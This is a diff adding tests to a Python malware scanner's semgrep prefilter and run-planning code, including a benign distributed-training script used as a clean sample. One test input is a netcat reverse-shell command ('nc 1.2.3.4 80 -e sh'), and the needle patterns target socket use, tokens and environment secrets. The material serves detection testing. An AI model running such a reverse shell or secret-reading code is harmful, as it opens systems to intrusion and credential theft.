@@ -181,3 +181,136 @@ def test_per_file_semgrep_errors_become_findings(tmp_path: Path) -> None:
     found = list(sg.to_findings(run, targets))
     assert [(f.rule_id, f.path) for f in found] == [("MLS902", "x.py")]
     assert "r1, r2" in found[0].message
+
+
+# --- prefilter and run planning ------------------------------------------------------------
+
+def _minimal_cases() -> list[tuple[str, int, str]]:
+    """(rule_id, line, source) per `ruleid` example: the example file's imports plus only the
+    top-level statement holding the line, i.e. the least a real file would contain."""
+    import ast
+
+    cases = []
+    for rule_id in sorted(SPECS):
+        path = example_file(rule_id)
+        text = path.read_text(encoding="utf-8")
+        lines = text.splitlines()
+        tree = ast.parse(text)
+        imports = [ast.get_source_segment(text, n) or "" for n in tree.body
+                   if isinstance(n, ast.Import | ast.ImportFrom)]
+        for line in sorted(read_annotations(path)[rule_id]["ruleid"]):
+            node = next(n for n in tree.body if n.lineno <= line <= (n.end_lineno or 0))
+            body = "\n".join(lines[node.lineno - 1:node.end_lineno])
+            cases.append((rule_id, line, "\n".join(imports) + "\n\n\n" + body + "\n"))
+    return cases
+
+
+MINIMAL = _minimal_cases()
+
+
+@pytest.mark.parametrize(("rule_id", "line", "source"), MINIMAL,
+                         ids=[f"{r}-{n}" for r, n, _ in MINIMAL])
+def test_prefilter_keeps_every_bad_example(rule_id: str, line: int, source: str) -> None:
+    assert rule_id in sr.matching_rules(source.encode())
+
+
+def test_prefilter_and_planning_lose_no_finding(tmp_path: Path) -> None:
+    """The whole batch path (prefilter, grouping, one semgrep run per group) on the minimal
+    files still reports every rule on its example."""
+    targets, expected = [], set()
+    for i, (rule_id, _line, source) in enumerate(MINIMAL):
+        path = tmp_path / f"case_{i:03d}.py"
+        path.write_text(source, encoding="utf-8")
+        targets.append(Target(path, path.name, Kind.PYTHON))
+        expected.add((path.name, SPECS[rule_id]["metadata"][sr.CODE_KEY]))
+    found = {(f.path, f.rule_id) for f in sg.analyze_python_batch(targets, Budget(Settings()))}
+    assert expected <= found, f"lost: {sorted(expected - found)}"
+
+
+BENIGN_TRAINING = '''
+import math, os, time, json, subprocess
+import numpy as np
+import torch
+import torch.distributed as dist
+from torch.nn.parallel import DistributedDataParallel as DDP
+
+def setup():
+    dist.init_process_group("nccl")
+    rank = int(os.environ["RANK"]); torch.cuda.set_device(rank % torch.cuda.device_count())
+    torch.manual_seed(1337 + rank)
+    return rank
+
+def evaluate(model, loader):
+    model.eval()
+    losses = [model(x, y)[1].item() for x, y in loader]
+    model.train()
+    return float(np.mean(losses))
+
+def main(cfg):
+    rank = setup()
+    model = DDP(torch.compile(build_model(cfg)))
+    opt = torch.optim.AdamW(model.parameters(), lr=cfg["lr"], betas=(0.9, 0.95))
+    out_dir = os.path.join(os.path.dirname(__file__), "out")
+    for step in range(cfg["max_iters"]):
+        lr = cfg["lr"] * 0.5 * (1 + math.cos(math.pi * step / cfg["max_iters"]))
+        for group in opt.param_groups:
+            group["lr"] = lr
+        loss = model(*get_batch("train"))[1]
+        loss.backward(); opt.step(); opt.zero_grad(set_to_none=True)
+        if rank == 0 and step % 100 == 0:
+            torch.save(model.state_dict(), os.path.join(out_dir, "ckpt.pth"))
+            with open(os.path.join(out_dir, "log.json"), "a") as f:
+                f.write(json.dumps({"step": step, "loss": loss.item(), "t": time.time()}) + "\\n")
+    gpu = subprocess.run(["nvidia-smi", "--query-gpu=name", "--format=csv"], capture_output=True)
+    print(gpu.stdout.decode())
+'''
+
+
+def test_ordinary_training_script_is_clean_and_mostly_prefiltered(tmp_path: Path) -> None:
+    # Only the .pth rule survives the prefilter (a checkpoint name plus a file opened for
+    # appending look like a start-up hook to substring tests); semgrep then stays quiet.
+    assert sr.matching_rules(BENIGN_TRAINING.encode()) == {"startup-hook-file"}
+    path = tmp_path / "train.py"
+    path.write_text(BENIGN_TRAINING, encoding="utf-8")
+    assert _run_batch([Target(path, "train.py", Kind.PYTHON)]) == []
+
+
+@pytest.mark.parametrize(("needle", "source", "expected"), [
+    ("^eval(", b"model.eval()\n", False),
+    ("^eval(", b"x = 1\neval (src)\n", True),
+    ("^eval(", b"def do_eval(self):\n", False),
+    ("m:socket", b"import os, socket\n", True),
+    ("m:socket", b"websocket_url = 1\n", False),
+    ("i:token", b"HF_TOKEN = 1", True),
+    ("environ&&i:secret", b"os.environ['AWS_SECRET']", True),
+    ("environ&&i:secret", b"os.environ['RANK']  # no s3cret", False),
+    ("^nc ", b'"a | nc 1.2.3.4 80 -e sh"', True),
+    ("^nc ", b"async def f(): pass", False),
+    ("exec(", b"exec \\\n  (x)", True),
+])
+def test_prefilter_needle_forms(needle: str, source: bytes, expected: bool) -> None:
+    assert sr.Prefilter([[needle]]).matches(sr._Text(source)) is expected
+
+
+def test_plan_groups_files_by_rules_and_caps_runs(tmp_path: Path) -> None:
+    from mlscan.analyzers.semgrep_plan import plan_runs
+
+    sources = {
+        "a.py": "import builtins\n",                       # dynamic-builtin-lookup only
+        "b.py": "import builtins\nx = 2\n",                # same rule set as a.py
+        "c.py": "os.environ['PYTHONPATH'] = '.'\n",        # child-pythonpath-injection only
+        "d.py": "print('hello')\n",                        # no rule: not scanned
+        "e.py": "import builtins\n" + "#" * 5000,          # over the size limit below
+    }
+    targets = []
+    for name, text in sources.items():
+        (tmp_path / name).write_text(text, encoding="utf-8")
+        targets.append(Target(tmp_path / name, name, Kind.PYTHON))
+    runs = plan_runs(targets, limit=1000)
+    assert sorted((sorted(r.rule_ids), sorted(t.path for t in r.targets)) for r in runs) == [
+        (["child-pythonpath-injection"], ["c.py"]),
+        (["dynamic-builtin-lookup"], ["a.py", "b.py"]),
+    ]
+    (merged,) = plan_runs(targets, limit=1000, max_runs=1)
+    assert merged.rule_ids == {"child-pythonpath-injection", "dynamic-builtin-lookup"}
+    assert sorted(t.path for t in merged.targets) == ["a.py", "b.py", "c.py"]
